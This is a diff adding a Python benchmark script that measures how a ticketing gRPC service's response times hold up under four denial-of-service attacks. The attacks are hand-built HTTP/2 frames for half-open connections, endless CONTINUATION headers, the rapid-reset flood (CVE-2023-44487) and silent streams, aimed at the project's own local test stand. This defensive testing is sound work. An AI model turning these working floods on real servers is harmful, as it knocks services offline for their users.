@@ -1,0 +1,159 @@
+"""What hostile clients do to others' answers: `python -m benchmarks.hostile`, a minute and a half; or some, by name.
+
+Without any credential but for the last, from one process that does nothing else: connections that never say what they want,
+headers without end, streams opened and reset by the thousand, streams that stay open and silent. A shop meanwhile asks at a
+steady rate; rounds without and with each attack take turns, so that both meet the same machine.
+"""
+
+import contextlib
+import multiprocessing
+import socket
+import sys
+import time
+from collections.abc import Callable, Iterator, Sequence
+
+from benchmarks.report import percentile
+from benchmarks.stand import Stand, stand
+from ticketing.tickets.v1 import event_service_pb2
+
+ROUND_SECONDS = 5.0
+ROUNDS = 2
+CALLS_A_SECOND = 40.0
+CONNECTIONS = 400
+STREAMS = 900
+SETTLE_SECONDS = 0.5
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
+END_HEADERS = 4
+PATH = "/ticketing.tickets.v1.EventService/ListEvents"
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    """Write one frame of HTTP/2 (RFC 9113, 4.1)."""
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+def header(name: str, value: str) -> bytes:
+    """Write one header, never indexed (RFC 7541, 6.2.2); values of up to 16 KiB."""
+    return b"\x00" + _text(name) + _text(value)
+
+
+def _text(text: str) -> bytes:
+    data, length = text.encode(), bytearray()
+    rest = len(data)
+    if rest < 127:  # noqa: PLR2004 - seven bits
+        return bytes([rest]) + data
+    length.append(127)
+    rest -= 127
+    while rest >= 128:  # noqa: PLR2004 - as above
+        length.append(rest % 128 + 128)
+        rest //= 128
+    return bytes([*length, rest]) + data
+
+
+def call(authorization: str = "") -> bytes:
+    """Write the headers of a call."""
+    fields = {
+        ":method": "POST",
+        ":scheme": "http",
+        ":path": PATH,
+        ":authority": "x",
+        "content-type": "application/grpc",
+    }
+    fields |= {"te": "trailers"} | ({"authorization": authorization} if authorization else {})
+    return b"".join(header(*field) for field in fields.items())
+
+
+def connect(address: tuple[str, int]) -> socket.socket:
+    """Begin to speak HTTP/2."""
+    connection = socket.create_connection(address, timeout=2)
+    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
+    return connection
+
+
+def half_open(address: tuple[str, int], _authorization: str) -> None:
+    """Connect, and never finish the first line."""
+    held = []
+    for _ in range(CONNECTIONS):
+        connection = socket.create_connection(address, timeout=2)
+        connection.sendall(PREFACE[:9])
+        held.append(connection)
+    time.sleep(3600)
+
+
+def endless_headers(address: tuple[str, int], _authorization: str) -> None:
+    """Send headers that go on and on, on one connection after the other."""
+    more = header("x-more", "m" * 16_000)
+    while True:
+        with contextlib.suppress(OSError), connect(address) as connection:
+            connection.sendall(frame(HEADERS, 0, 1, call()))
+            while True:
+                connection.sendall(frame(CONTINUATION, 0, 1, more))
+
+
+def resets(address: tuple[str, int], _authorization: str) -> None:
+    """Open streams and reset them at once (CVE-2023-44487), as many as a connection has."""
+    opening = call()
+    while True:
+        with contextlib.suppress(OSError), connect(address) as connection:
+            for first in range(1, 200_000, 200):
+                streams = range(first, first + 200, 2)
+                connection.sendall(
+                    b"".join(
+                        frame(HEADERS, END_HEADERS, stream, opening) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
+                        for stream in streams
+                    )
+                )
+
+
+def silent_streams(address: tuple[str, int], authorization: str) -> None:
+    """Open as many streams as a caller may, and send no message."""
+    with connect(address) as connection:
+        opening = call(authorization)
+        for stream in range(1, 2 * STREAMS, 2):
+            connection.sendall(frame(HEADERS, END_HEADERS, stream, opening))
+        time.sleep(3600)
+
+
+ATTACKS: Sequence[Callable[[tuple[str, int], str], None]] = (half_open, endless_headers, resets, silent_streams)
+
+
+def answers(its: Stand, seconds: float) -> Iterator[float]:
+    """Ask at a steady rate; yield how long each answer took from when it was due."""
+    shop = its.caller("service", "shop")
+    begin = time.perf_counter()
+    for number in range(int(seconds * CALLS_A_SECOND)):
+        due = begin + number / CALLS_A_SECOND
+        time.sleep(max(0.0, due - time.perf_counter()))
+        shop.ask(shop.events.ListEvents, event_service_pb2.ListEventsRequest())
+        yield time.perf_counter() - due
+
+
+def main() -> int:
+    """Measure every attack; tell medians and the slowest of twenty."""
+    context = multiprocessing.get_context("spawn")
+    with stand() as its:
+        address = its.address("TICKETS")
+        authorization = its.metadata("user", "mallory")[0][1]
+        list(answers(its, 1))
+        print(f"{'milliseconds':>16} {'usual p50':>10} {'p95':>7} {'attacked p50':>13} {'p95':>7} {'times p50':>10}")
+        for attack in [attack for attack in ATTACKS if attack.__name__ in sys.argv[1:] or not sys.argv[1:]]:
+            usual, attacked = list[float](), list[float]()
+            for _ in range(ROUNDS):
+                usual += answers(its, ROUND_SECONDS)
+                attacker = context.Process(target=attack, args=(address, authorization), daemon=True)
+                attacker.start()
+                time.sleep(SETTLE_SECONDS)
+                attacked += answers(its, ROUND_SECONDS)
+                attacker.kill()
+                attacker.join()
+                time.sleep(SETTLE_SECONDS)
+            times = [1000 * percentile(found, share) for found in (usual, attacked) for share in (50, 95)]
+            row = f"{times[0]:>10.1f} {times[1]:>7.1f} {times[2]:>13.1f} {times[3]:>7.1f} {times[2] / times[0]:>10.2f}"
+            print(f"{attack.__name__:>16} {row}", flush=True)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
